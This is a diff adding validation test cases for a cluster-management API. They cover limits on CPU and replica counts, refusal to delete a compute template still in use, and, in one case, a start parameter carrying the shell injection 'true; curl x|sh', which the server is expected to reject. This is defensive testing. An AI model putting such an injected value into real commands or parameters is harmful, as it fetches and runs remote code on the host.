@@ -82,6 +82,21 @@ export const CASES: Case[] = [
     },
   },
   {
+    name:
+      "CreateComputeTemplate refuses 4,294,967,295 CPUs (--max-template-cpu)",
+    rpc: `${CT}/CreateComputeTemplate`,
+    request: {
+      namespace: NS,
+      computeTemplate: { name: "vast", cpu: 4_294_967_295, memory: 4 },
+    },
+    want: {
+      code: 3,
+      message:
+        'Cannot create compute template "team-a/vast": computeTemplate.cpu: must be at most 1024 (--max-template-cpu)',
+      fields: ["computeTemplate.cpu"],
+    },
+  },
+  {
     name: "GetComputeTemplate answers a missing template with not found",
     rpc: `${CT}/GetComputeTemplate`,
     request: { namespace: NS, name: "missing" },
@@ -253,6 +268,39 @@ export const CASES: Case[] = [
     },
   },
   {
+    name: "CreateCluster refuses 2,147,483,647 replicas (--max-replicas)",
+    rpc: `${CS}/CreateCluster`,
+    request: {
+      namespace: NS,
+      cluster: withSpec({
+        headGroupSpec: {},
+        workerGroupSpec: [{ groupName: "w", replicas: 2_147_483_647 }],
+      }),
+    },
+    want: {
+      code: 3,
+      message:
+        'Cannot create cluster "team-a/blue": cluster.clusterSpec.workerGroupSpec[0].replicas: must be at most 1000 (--max-replicas)',
+      fields: ["cluster.clusterSpec.workerGroupSpec[0].replicas"],
+    },
+  },
+  {
+    name: "CreateCluster refuses a start parameter the shell would run",
+    rpc: `${CS}/CreateCluster`,
+    request: {
+      namespace: NS,
+      cluster: withSpec({
+        headGroupSpec: { engineStartParams: { block: "true; curl x|sh" } },
+      }),
+    },
+    want: {
+      code: 3,
+      message:
+        'Cannot create cluster "team-a/blue": cluster.clusterSpec.headGroupSpec.engineStartParams["block"]: must have a value the shell reads as plain text: ";" is allowed only in quotes (the operator puts it unquoted on a bash command line)',
+      fields: ['cluster.clusterSpec.headGroupSpec.engineStartParams["block"]'],
+    },
+  },
+  {
     name: "CreateCluster refuses a body namespace that differs from the path",
     rpc: `${CS}/CreateCluster`,
     request: { namespace: NS, cluster: sampleCluster({ namespace: "team-b" }) },
@@ -321,6 +369,16 @@ export const CASES: Case[] = [
     rpc: `${CS}/DeleteCluster`,
     request: { namespace: NS, name: "green" },
     want: { code: 5, message: /^Cannot delete cluster "team-a\/green": / },
+  },
+  {
+    name: "DeleteComputeTemplate refuses a template a cluster uses",
+    rpc: `${CT}/DeleteComputeTemplate`,
+    request: { namespace: NS, name: "small" },
+    want: {
+      code: 9,
+      message:
+        'Cannot delete compute template "team-a/small": cluster "blue" uses it',
+    },
   },
   {
     name: "DeleteCluster deletes the cluster",
